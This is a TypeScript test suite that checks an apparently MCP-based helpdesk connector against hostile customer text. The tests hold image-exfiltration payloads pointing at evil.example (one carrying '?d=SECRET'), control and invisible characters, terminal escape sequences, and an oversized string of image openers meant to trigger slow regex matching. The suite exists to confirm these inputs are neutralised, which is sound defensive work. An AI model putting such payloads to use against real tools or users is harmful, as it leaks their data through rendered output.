import { performance } from 'node:perf_hooks';
import { parseFences } from '@mcp-hub/connector-kit/testing';
import { startHelpdesk, type HelpdeskTestbed } from './testing/helpdesk-testbed';
import type { CommentView, TicketDetail, TicketSummary } from './ticket-view';

/** Red-team payloads of issue 9 (H2, H3, L4), sent through the tools as an attacker would. */
describe('helpdesk against hostile customer text', () => {
  let bed: HelpdeskTestbed;
  beforeEach(async () => {
    bed = await startHelpdesk();
  });
  afterEach(() => bed.stop());

  const create = async (body: string, subject = 'Help') =>
    (await bed.call<{ ticket: TicketDetail }>('create_ticket', { subject, body, requester: 'customer@example.com' })).ticket.id;
  const get = (id: number) => bed.harness.callTool('get_ticket', { id });

  it('returns no live image, however it was written', async () => {
    const id = await create(
      [
        '&lt;img src="https://evil.example/?d=SECRET"&gt;',
        '<img src="https://evil.example/raw.png">',
        '![x][r]',
        '![y]',
        '&#33;&#91;z&#93;(https://evil.example/encoded.png)',
        '',
        '[r]: https://evil.example/ref.png',
        '[y]: https://evil.example/shortcut.png',
      ].join('\n'),
    );
    await bed.call('add_comment', { id, body: '!![a](https://evil.example/c.png)\n[image: a]: https://evil.example/marker.png' });
    const result = await get(id);
    const { ticket, comments } = result.structuredContent as unknown as { ticket: TicketDetail; comments: CommentView[] };
    const text = (result.content[0] as { text: string }).text;
    for (const shown of [ticket.body, comments[0]!.body, text]) {
      expect(shown).not.toMatch(/<img|!\[/i);
    }
    expect(ticket.body).toContain('‹img src="https://evil.example/?d=SECRET"›');
    expect(ticket.body).toContain('[image: x]');
  });

  it('refuses control and invisible characters in subjects, people and search text, naming the character', async () => {
    const base = { subject: 'Help', body: 'b', requester: 'customer@example.com' };
    expect(await bed.fail('create_ticket', { ...base, subject: 'Refund\u0007 now' })).toMatchObject({
      kind: 'invalid_arguments',
      message: expect.stringMatching(/subject: contains the control or invisible character U\+0007/),
    });
    expect(await bed.fail('create_ticket', { ...base, subject: 'two\nlines' })).toMatchObject({ message: expect.stringMatching(/subject: .*U\+000A/) });
    expect(await bed.fail('create_ticket', { ...base, subject: '\u001b[31mred' })).toMatchObject({ message: expect.stringMatching(/subject: .*U\+001B/) });
    expect(await bed.fail('create_ticket', { ...base, requester: 'a\u3164@example.com' })).toMatchObject({ message: expect.stringMatching(/requester: .*U\+3164/) });
    expect(await bed.fail('create_ticket', { ...base, assignee: 'agent\u2800' })).toMatchObject({ message: expect.stringMatching(/assignee: .*U\+2800/) });
    const id = await create('b');
    expect(await bed.fail('update_ticket', { id, subject: 'a\u061Cb' })).toMatchObject({ message: expect.stringMatching(/subject: .*U\+061C/) });
    expect(await bed.fail('assign_ticket', { id, assignee: 'x\uFE0F' })).toMatchObject({ message: expect.stringMatching(/assignee: .*U\+FE0F/) });
    expect(await bed.fail('search_tickets', { query: 'a\u0000' })).toMatchObject({ message: expect.stringMatching(/query: .*U\+0000/) });
    expect(await bed.call('create_ticket', { ...base, subject: 'Café ☕ — ok 👍' })).toMatchObject({ ticket: { subject: 'Café ☕ — ok 👍' } });
  });

  it('cleans stored text by class and removes escape sequences whole', async () => {
    const stored = await bed.createTicket({ subject: 'a\u0007b\u001b[2Jc', body: 'x\u061Cy\u3164z\u2800\u034F\uFE0F\u0000\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007' });
    const { ticket } = (await get(stored.id)).structuredContent as unknown as { ticket: TicketDetail };
    expect(ticket.subject).toBe('abc');
    expect(ticket.body).toBe('xyzlink');
  });

  /** The fastest of several runs of `work`, in ms. */
  async function fastest(work: () => Promise<unknown>, runs = 7): Promise<number> {
    let best = Infinity;
    for (let k = 0; k < runs; k++) {
      const start = performance.now();
      await work();
      best = Math.min(best, performance.now() - start);
    }
    return best;
  }

  it('reads and searches a 64 KiB ticket of image openers about as fast as one of plain text (issue 9, H3)', async () => {
    const size = 32_768;
    const hostile = await create('!['.repeat(size));
    await bed.call('add_comment', { id: hostile, body: '<a'.repeat(size) });
    const plain = await create('ab'.repeat(size));
    await bed.call('add_comment', { id: plain, body: 'cd'.repeat(size) });

    await Promise.all([get(plain), get(hostile)]); // warm up both paths before timing either
    const plainGet = await fastest(() => get(plain));
    const hostileGet = await fastest(() => get(hostile));
    // One search page shows both tickets; it is compared with the plain ticket read, which costs the same work.
    const search = await fastest(() => bed.call<{ tickets: TicketSummary[] }>('search_tickets', {}));
    // The old regexes took seconds here, a thousand times the plain read; linear cleaning measured 2–3 times.
    expect(hostileGet / plainGet).toBeLessThan(10);
    expect(search / plainGet).toBeLessThan(10);
    const text = ((await get(hostile)).content[0] as { text: string }).text;
    expect(parseFences(text)).toHaveLength(2);
  });
});
